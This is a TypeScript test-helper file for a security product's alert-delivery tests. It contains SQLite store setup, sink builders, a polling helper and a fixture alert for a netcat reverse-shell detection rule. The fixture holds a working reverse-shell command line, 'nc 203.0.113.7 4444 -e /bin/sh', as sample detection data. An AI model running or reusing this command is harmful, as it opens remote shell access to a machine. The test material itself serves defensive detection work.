// Helpers of the alert-delivery tests: a sink store and outbox on a temporary SQLite file (the embedded store,
// secrets sealed under a key file in the same directory), alerts shaped as the API shows them, and polling.

import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AlertDoc } from '../../src/alerts/formats.ts';
import { secretBoxAt } from '../../src/alerts/secret-box.ts';
import type { NewAlertSink } from '../../src/alerts/sink.ts';
import { SqlAlertSinkStore } from '../../src/stores/alert-sinks/sql-alert-sinks.ts';
import { openSqliteDb } from '../../src/stores/sql/sqlite-db.ts';

export interface TempSinks { store: SqlAlertSinkStore; dir: string; path: string; reopen(): Promise<SqlAlertSinkStore>; dispose(): Promise<void> }

export async function tempSinks(prefix = 'vigil-alerts-'): Promise<TempSinks> {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  const path = join(dir, 'metadata.db');
  const open = () => SqlAlertSinkStore.open(openSqliteDb(path), secretBoxAt(join(dir, 'alert-sink.key')));
  const store = await open();
  return { store, dir, path, reopen: open, async dispose() { await store.close(); rmSync(dir, { recursive: true, force: true }); } };
}

export const sinkOf = (s: Partial<NewAlertSink> & Pick<NewAlertSink, 'type' | 'url'>): NewAlertSink => ({
  tenantId: 't1', name: s.type, format: 'vigil', filters: {}, template: null, options: {}, secret: null, enabled: true, createdBy: 'user:test', createdAt: Date.now(), ...s,
});

/** An alert as the API shows it: a reverse shell on host h1 with its user, command line, file and destination. */
export function alertDoc(i: number, o: Partial<AlertDoc> = {}): AlertDoc {
  const at = new Date(1_760_000_000_000 + i * 1000).toISOString();
  return {
    id: `alert-${i}`, tenant_id: 't1', host_id: `h-${i}`,
    rule: { id: 'vigil-netcat-reverse-shell', title: 'Netcat reverse shell', author: 'Vigil', level: 'high', description: 'nc -e spawns a shell' },
    techniques: [{ id: 'T1059.004', name: 'Unix Shell', tactics: ['Execution'] }, { id: 'T1095', name: 'Non-Application Layer Protocol', tactics: ['Command and Control'] }],
    events: [{
      agent: { id: `h-${i}`, tenant_id: 't1', hostname: `web-${i}.example` }, host: { hostname: `web-${i}.example` }, user: { name: 'www-data' },
      process: { command_line: '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', executable: '/usr/bin/nc', pid: 4000 + i },
      file: { path: '/tmp/.x/payload' }, destination: { ip: '203.0.113.7', port: 4444 },
    }],
    first_seen: at, last_seen: at, occurrences: 1,
    process: { command_line: '/usr/bin/nc 203.0.113.7 4444 -e /bin/sh', executable: '/usr/bin/nc', pid: 4000 + i, user_name: 'www-data', entity_id: `pe-${i}` },
    ...o,
  };
}

export async function until<T>(what: string, probe: () => T | undefined | false | Promise<T | undefined | false>, ms = 15_000): Promise<T> {
  for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 20))) {
    const v = await probe();
    if (v) return v;
  }
  throw new Error(`timed out waiting for ${what}`);
}
